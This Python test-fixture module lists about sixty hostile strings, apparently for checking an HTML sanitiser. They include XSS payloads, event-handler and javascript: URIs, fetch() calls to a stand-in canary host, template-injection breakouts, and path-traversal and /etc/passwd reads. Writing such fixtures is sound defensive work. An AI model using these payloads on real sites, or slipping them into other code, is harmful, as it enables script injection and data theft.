"""Sixty texts that would like to be more than text."""

__all__ = ["CANARY", "TEXTS"]

CANARY = "https://canary.example"
_ACT = f"alert(1);fetch('{CANARY}/x')"
_MARKUP = (
    f"<script>{_ACT}</script>",
    f"</script><script>{_ACT}</script>",
    f"</textarea><script>{_ACT}</script>",
    f"</title><script>{_ACT}</script>",
    f'<img src=x onerror="{_ACT}">',
    f"<img src='{CANARY}/i.png'>",
    f"<img srcset='{CANARY}/i.png 2x'>",
    f'<svg onload="{_ACT}"></svg>',
    f"<svg><script>{_ACT}</script></svg>",
    f'<svg><animate onbegin="{_ACT}" attributeName=x dur=1s></svg>',
    f"<svg><use href='{CANARY}/u.svg#a'></use></svg>",
    f"<svg><image href='{CANARY}/i.svg'></image></svg>",
    f'<math><maction xlink:href="javascript:{_ACT}">x</maction></math>',
    f'<iframe src="javascript:{_ACT}"></iframe>',
    f'<iframe srcdoc="<script>{_ACT}</script>"></iframe>',
    f"<iframe src='{CANARY}/f'></iframe>",
    f"<object data='{CANARY}/o'></object>",
    f"<embed src='{CANARY}/e'>",
    f"<link rel=stylesheet href='{CANARY}/s.css'>",
    f"<link rel=preload as=image href='{CANARY}/p.png'>",
    f"<style>@import '{CANARY}/s.css';</style>",
    f"<style>*{{background:url({CANARY}/b.png)}}</style>",
    f"<div style=\"background:url('{CANARY}/b.png')\">x</div>",
    f'<meta http-equiv=refresh content="0;url={CANARY}">',
    f"<base href='{CANARY}/'>",
    f"<form action='{CANARY}/f'><input autofocus onfocus=\"{_ACT}\"></form>",
    f'<details open ontoggle="{_ACT}">x</details>',
    f'<video src=x onerror="{_ACT}"></video>',
    f"<video poster='{CANARY}/p.png'></video>",
    f"<audio src='{CANARY}/a.mp3' autoplay></audio>",
    f'<body onload="{_ACT}">',
    f'<marquee onstart="{_ACT}">x</marquee>',
    f'<a href="javascript:{_ACT}">press</a>',
    f'<custom-element onpointerenter="{_ACT}">x</custom-element>',
)
_ADDRESSES = (
    f"javascript:{_ACT}",
    f"JaVaScRiPt:{_ACT}",
    f"java\tscript:{_ACT}",
    f" javascript:{_ACT}",
    f"\x01javascript:{_ACT}",
    f"vbscript:{_ACT}",
    f"data:text/html,<script>{_ACT}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{_ACT}'/>",
    "//canary.example/x.png",
    "http://canary.example/x.png",
    "file:///etc/passwd",
    "blob:https://canary.example/1",
    "/storage/v1/object/public/image_uploads/../../../etc/passwd",
)
_ESCAPES = (
    f'" onmouseover="{_ACT}" x="',
    f"' onfocus='{_ACT}' autofocus x='",
    f"`${{{_ACT}}}`",
    f"{{{{constructor.constructor('{_ACT}')()}}}}",
    f"${{{_ACT}}}",
    f"*/{_ACT}/*",
    f"&lt;script&gt;{_ACT}&lt;/script&gt;",
)
_LETTERS = (
    "\u202egnp.daolyap\u202c and what follows",
    "\u2066\u2067\u202b\u200f right to left, never closed",
    "\u05d0\u05d1\u05d2 \u0627\u0628\u062c mixed with left to right",
    "Z" + "\u0300\u0301\u0302\u0303" * 400,
    f"long {'wide-without-a-break' * 500} <b>end</b>",
)
TEXTS = (*_MARKUP, *_ADDRESSES, *_ESCAPES, *_LETTERS)
